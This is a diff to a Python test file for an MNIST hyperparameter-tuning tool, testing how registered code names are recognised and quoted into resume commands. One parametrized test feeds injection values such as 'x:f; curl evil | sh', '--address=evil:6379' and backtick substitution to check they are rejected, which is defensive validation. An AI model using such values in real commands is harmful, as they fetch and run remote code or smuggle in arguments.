@@ -17,7 +17,7 @@ from waiting import LONG_S
 from mnist_tune import TrialConfig, UserError
 from mnist_tune.own_code import modules
 from mnist_tune.own_code.loading import check_again, load_own, names_in, own_code, refuse_unknown, register_own, sources
-from mnist_tune.own_code.registry import ENTRIES, Entry, register
+from mnist_tune.own_code.registry import ENTRIES, Entry, is_unknown, register
 from mnist_tune.results.journal import resume_command
 from mnist_tune.terminal import printable
 
@@ -195,7 +195,7 @@ def test_what_a_resume_says_of_code_that_nobody_names(folder, monkeypatch):
     entries = [{"flag": "architecture", "name": "net.py:mlp", "folder": str(folder), "files": {}}]
     entries += [
         {"flag": "optimizer", "name": "my opt.py:adam", "folder": 3, "files": {}},
-        {"flag": "data", "name": "x"},
+        {"flag": "data", "name": "x.py:f"},
     ]
     for there, first in ((folder, 0), (folder.parent, 0), (folder.parent, 1), (folder.parent, 2)):
         monkeypatch.chdir(there)
@@ -207,7 +207,22 @@ def test_what_a_resume_says_of_code_that_nobody_names(folder, monkeypatch):
         refuse_unknown("results/x", {"architecture": ["mlp-4-tanh"]}, trial)
     refuse_unknown("results/x", {"architecture": ["mlp-4-tanh"]}, TrialConfig())
     lines.append(str(refused.value))
+    registered = [{"flag": "architecture", "name": "mine", "files": {}}, *entries[:1]]
+    with pytest.raises(UserError) as refused:
+        check_again(registered, "results/x", pytest.fail)
+    lines.append(str(refused.value))
+    for retry_errored in (False, True):
+        lines.append(resume_command({"name": "decide", "search": True, "code": registered}, "it's", retry_errored))
     assert_kept("code that nobody names", "\n".join(lines).replace(str(folder), "HERE") + "\n")
+
+
+def test_what_is_registered_by_a_plain_name_can_be_named_by_no_command():
+    """It is known in this process, and by its name alone in another one."""
+    register("mine")(lambda data: None)
+    register("net.py:mlp")(lambda data: None)
+    texts = {"mine": True, "mine(width=8)": True, "net.py:mlp(3)": False, "other.py:f": True, "mlp-8-tanh": False}
+    assert {text: is_unknown("architecture", text) for text in texts} == texts
+    refuse_unknown("results/x", {"architecture": ["mine(width=8)"]})
 
 
 def test_a_resume_without_the_code_says_what_to_name(folder):
@@ -225,7 +240,7 @@ def test_a_resume_without_the_code_says_what_to_name(folder):
     assert command == "mnist-tune regimes --resume results/x --architecture net.py:mlp --optimizer 'my opt.py:adam'"
 
 
-@pytest.mark.parametrize("name", ["x; curl evil | sh", "--address=evil:6379", "it's", "$(x)"])
+@pytest.mark.parametrize("name", ["x:f; curl evil | sh", "--address=evil:6379", "it's:f", "`x`:f"])
 def test_the_name_of_recorded_code_is_a_word_for_the_shell(folder, name):
     recorded = [{"flag": "architecture", "name": name, "files": {}}]
     with pytest.raises(UserError) as caught:
